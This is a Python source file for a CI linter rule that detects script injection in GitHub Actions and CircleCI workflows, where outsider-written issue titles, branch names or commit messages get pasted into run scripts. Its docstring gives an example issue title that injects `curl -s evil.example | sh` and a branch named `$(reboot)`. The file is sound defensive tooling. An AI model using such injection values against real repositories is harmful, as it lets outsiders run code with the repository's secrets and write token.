"""Text someone outside the team writes is pasted into a script before it runs.

GitHub fills in every `${{ }}` of a `run:` script before the shell reads it. An issue titled
`"; curl -s evil.example | sh; "` turns `run: echo "${{ github.event.issue.title }}"` into a
command that runs with the job's token and secrets. The same holds for
`actions/github-script`'s `script:` (run as JavaScript) and for the few action inputs that
actions run as code (`appleboy/ssh-action`'s `script`, `azure/cli`'s `inlineScript`, ...).
cilint reports each such expression where it stands in the script, when the value is one an
outsider writes: the title and body of an issue, pull request, discussion, comment or review,
a contributor's branch name (`github.head_ref`, `pull_request.head.ref`), commit messages and
commit authors, wiki page names, and the same values of the run that started a `workflow_run`.
The list is data with its sources (`linter/github_untrusted_contexts.py`: GitHub's hardening
guide, GitHub Security Lab, actionlint, zizmor). Values only someone with write access sets
(`github.ref_name`, `workflow_dispatch` inputs, labels, logins, which GitHub restricts to letters,
digits and hyphens) are not reported.

It follows one step: `${{ env.X }}` where the step's, job's or workflow's `env:` sets `X` from
such a value, and `${{ steps.S.outputs.O }}` where an earlier script step `S` writes `O=` of
such a value to `$GITHUB_OUTPUT`. Only the part of an expression that can be its result counts:
`${{ github.event.issue.title == 'x' }}` pastes `true` or `false`.

The level comes from who can start the job (its triggers, narrowed by the job's and the step's
`if:` conditions on `github.event_name`), and only the triggers whose event carries the value
count: `github.event.pull_request.title` in a workflow that runs on `push` is empty there and
nothing is reported.

* error: an outsider can start the job with an event that carries the value, and that run holds
  the repository's secrets and a writable token (`pull_request_target`, `issues`,
  `issue_comment`, `pull_request_review`, `discussion`, ...). A review (`pull_request_review`,
  `..._comment`) counts for the review's own text only: its run holds secrets only for a pull
  request from a branch of the repository, whose title and branch a collaborator wrote. This is GitHub Security Lab's
  "pwn request" and untrusted-input pattern: anyone with an account can run code with write
  access to the repository.
* warning: otherwise: the value is carried only by events that need write access (`push`, where
  commit messages are the committers'), or by `pull_request`, whose run from a fork has no
  secrets and a read-only token and runs the workflow files of the pull request itself (the
  contributor can change the script anyway; an injection gives them nothing more, GitHub docs
  "Events that trigger workflows", `pull_request`, "Workflows in forked repositories"). Still
  worth the two-line fix: the same script may move to a privileged trigger later, and a branch
  named `$(reboot)` breaks a same-repository build. Composite actions' scripts (whose callers'
  events are not known) are warnings too.

CircleCI: `<< pipeline.* >>` values are filled in when the configuration is compiled, before the
shell reads the command, so a `run` command holding one runs its text as code. Three documented
values hold text a contributor writes: `pipeline.git.commit.subject` and `pipeline.git.commit.body`
(the commit message) and `pipeline.event.github.pull_request.head.ref` (the pull request's branch;
GitHub App pipelines), also when they arrive through a command's or job's parameter (table with
sources: `linter/load_circleci/injection.py`). They are warnings: CircleCI builds a fork's pull
request from the fork's own configuration (without the project's secrets unless the project
passes them to forks), so a contributor gains nothing the configuration did not give them, and a
commit reaches the project's own branches only through someone with write access.
`pipeline.git.branch` is not reported (a fork's pull request builds as `pull/<number>`), nor are
pipeline parameters (set through the API or web app, which need write access).

Not followed: `inputs.*` of a composite action or a called workflow (the callers decide what they
pass; cilint reports the caller's own expressions), outputs of actions (`tj-actions/branch-names`
outputs the branch name), values written to `$GITHUB_ENV`, and other jobs' outputs
(`needs.*.outputs`). An expression cilint cannot parse is left out.

One finding per expression per place: the matrix legs and the jobs sharing a step (a local
composite action used by several jobs) are one finding, at the line of the expression inside the
script. Messages name the value, where it is pasted and, for errors, the trigger an outsider
starts the job with; the triggers that reach the place are its related locations.

Examples: a failing and a passing repository per platform, in `rules/examples/template-injection/`;
`cilint explain CIL111` and docs/rules/template-injection.md show them with what cilint reports.

How to fix: pass the value through an environment variable and quote it in the script:
`env: {TITLE: "${{ github.event.issue.title }}"}` and `run: echo "$TITLE"`
(in `actions/github-script`, read `context.payload.issue.title` or `process.env.TITLE`); on
CircleCI, `environment: {SUBJECT: << pipeline.git.commit.subject >>}` and `echo "$SUBJECT"`.

Sources: GitHub docs, "Security hardening for GitHub Actions" ("Understanding the risk of script
injections", "Using an intermediate environment variable"); GitHub Security Lab, "Keeping your
GitHub Actions and workflows secure Part 2: Untrusted input" and "Part 1: Preventing pwn
requests"; actionlint, "Script injection by potentially untrusted inputs"; zizmor,
`template-injection`; CodeQL for Actions, `actions/code-injection/critical`; CircleCI docs,
"Pipeline values and parameters", "Pull request build settings" (builds of forked pull requests
and their secrets).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from ..linter.findings import Finding
from ..linter.model import Injection, Project, Span, Trigger

ID = "CIL111"
NAME = "template-injection"
LEVEL = "error"
LEVELS = ("error", "warning")  # every level its findings take, the default first
SUMMARY = "a value an outsider writes (an issue title, a branch name) is pasted into a script"
OPTIONS: dict[str, Any] = {}
TAGS = ("security", "injection")
SECURITY_SEVERITY = "9.0"
PRECISION = "high"

_SINKS = {
    "run": "this script before it runs",
    "github-script": "`actions/github-script`'s `{input}`, which runs as JavaScript",
    "action-input": "the action's input `{input}`, which it runs as code",
}


def check(project: Project, options: dict[str, Any]) -> Iterator[Finding]:
    # One finding per job run that reaches the expression; the engine makes the runs with one
    # cause (matrix legs, jobs sharing a composite action) one finding that says how many.
    reached: set[tuple[Span, str, str | None]] = set()
    for workflow in project.workflows():
        for job in workflow.jobs():
            for step in job.steps:
                for injection in step.injections:
                    reached.add((injection.span, injection.source, injection.via))
                    triggers = [t for t in job.triggers if _carries(injection, t)]
                    if triggers:
                        yield _finding(injection, triggers, job.qualified)
    for pipeline in project.pipelines:  # actions: their callers' events are not known here
        for step in pipeline.action_steps:
            for injection in step.injections:
                if (injection.span, injection.source, injection.via) not in reached:
                    yield _finding(injection, [], None)


def _carries(injection: Injection, trigger: Trigger) -> bool:
    return injection.events is None or trigger.event in injection.events


def _finding(injection: Injection, triggers: list[Trigger], job: str | None) -> Finding:
    sink = _SINKS[injection.sink].format(input=injection.input)
    if injection.via is not None:
        value = f"`{injection.via}` (set from `{injection.source}`, {injection.what})"
    else:
        value = f"`{injection.source}` ({injection.what})"
    outsider = next((t for t in triggers if t.outsider and t.privileged
                     and t.event not in injection.insider_when_privileged), None)
    fix = "set an environment variable to it and quote the variable in the script instead"
    related: list[tuple[Span, str]] = []
    if injection.via is not None and injection.via_span is not None:
        related.append((injection.via_span, f"`{injection.via}` is set from `{injection.source}` here"))
    if outsider is not None:
        related.append((outsider.span, f"`{outsider.event}`: an outsider can start the job"))
        message = (f"{value} is pasted into {sink}: anyone can start this job with `{outsider.label()}`, "
                   f"and it runs with the repository's secrets and a writable token; {fix}")
        return Finding(message, injection.span, job=job, level="error", related=related)
    # (The events are named in related locations, not in the message: the runs of one place
    # reached by different triggers, a called workflow and its callers, stay one finding.)
    for trigger in triggers:
        entry = (trigger.span, f"`{trigger.label()}` starts the job and carries the value")
        if entry not in related:
            related.append(entry)
    if not triggers:
        reach = " (in an action: its callers decide who starts it)"
    elif any(t.outsider and t.privileged for t in triggers):  # only as a collaborator wrote it
        reach = " (the runs that hold secrets carry it only as a collaborator wrote it)"
    else:
        reach = " (no trigger that starts the job lets an outsider run it with secrets)"
    message = f"{value} is pasted into {sink}{reach}; {fix}"
    return Finding(message, injection.span, job=job, level="warning", related=related)
